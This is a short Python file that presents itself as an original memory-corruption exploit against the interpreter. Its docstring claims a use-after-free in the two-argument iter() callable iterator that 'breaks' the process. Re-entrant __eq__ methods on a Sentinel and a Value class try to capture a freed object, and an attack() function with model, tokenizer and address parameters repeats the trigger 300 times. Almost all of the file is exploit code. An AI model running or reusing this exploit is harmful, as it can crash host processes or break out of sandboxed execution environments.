"""Class: memory. Source: own find. Escape: the process breaks. A sentinel that is compared ends the iterator,
which lets go of it: the object that is compared with it next is handed what was freed."""


class Sentinel:
    def __eq__(self, other):
        asked.append(1)
        if len(asked) > 1:
            return True
        next(values, None)
        return NotImplemented


class Value:
    def __eq__(self, other):
        kept.append(other)
        return True


asked = []
kept = []


def attack(model, tokenizer, address):
    global values
    for _ in range(300):
        asked.clear()
        values = iter(Value, Sentinel())
        next(values, None)
    return repr(kept)
